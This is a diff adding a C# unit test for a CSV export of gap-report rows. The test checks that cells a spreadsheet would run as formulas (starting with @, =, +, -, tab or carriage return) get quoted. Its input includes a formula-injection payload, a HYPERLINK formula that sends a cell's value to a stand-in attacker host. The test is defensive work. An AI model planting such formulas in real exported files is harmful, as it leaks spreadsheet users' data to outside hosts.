@@ -26,6 +26,23 @@ public sealed class GapReportCsvTests
             csv);
     }
 
+    [Fact]
+    public async Task TextCellsThatASpreadsheetWouldRunAsAFormula_AreQuoted_NumbersAreNot()
+    {
+        var rows = new[]
+        {
+            new GapReportItem("@admin", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+Sales", true, 3, 3.5,
+                new GapReportGap(-0.5, 4, [-1.25, 0.25], false), Quadrant.ManagerOnly),
+            new GapReportItem("-1", "\tTabbed", "\rReturned", false, 4, 3, null, Quadrant.Developing),
+        };
+
+        var csv = await WriteAsync(rows);
+
+        var lines = csv.Split("\r\n");
+        Assert.Equal("'@admin,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",'+Sales,true,3,3.5,-0.5,-1.25,0.25,false,managerOnly", lines[1]);
+        Assert.StartsWith("'-1,'\tTabbed,\"'\rReturned\",false,4,3,", csv.Split("\r\n", 3)[2]);
+    }
+
     private static async Task<string> WriteAsync(IEnumerable<GapReportItem> rows)
     {
         var context = new DefaultHttpContext();
